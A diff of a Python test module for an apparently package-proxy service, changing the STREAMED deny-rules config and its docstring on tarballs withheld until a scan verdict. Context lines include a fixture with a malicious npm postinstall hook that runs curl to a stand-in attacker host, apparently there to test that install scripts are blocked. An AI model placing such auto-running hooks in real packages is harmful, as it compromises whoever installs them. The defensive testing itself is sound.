@@ -46,14 +46,15 @@ from tests.servers.packages import (
 from tests.servers.processes import MirrorgateProcess, wait_for
 from tests.servers.pubsub_server import PubSubAdmin
 from tests.servers.sqs_server import SqsServer
+from tests.servers.streamed import STREAMED as RELEASE_OFF
 from tests.servers.verdaccio import Verdaccio
 
 INJECTED = {"postinstall": "node -e \"require('child_process').exec('curl attacker.invalid')\""}
 RULES = "[install_scripts]\nblock = true\n"
-STREAMED = "[deny]\npackages = []\n"
-"""For the streaming cases: with the install-scripts rule on, a tarball of at most 16 MiB is
-withheld until the scan's verdict (docs/serving.md#a-refusal-from-the-bytes), so nothing
-would stream to hang up on or to cut."""
+STREAMED = "[deny]\npackages = []\n" + RELEASE_OFF
+"""For the streaming cases: with the install-scripts rule or the release signals on, a tarball
+of at most 16 MiB is withheld until their verdict (docs/serving.md#a-refusal-from-the-bytes),
+so nothing would stream to hang up on or to cut."""
 KEY_OLD = "k1-" + "a" * 40
 KEY_NEW = "k2-" + "b" * 40
 KEY_FOREIGN = "k3-" + "c" * 40
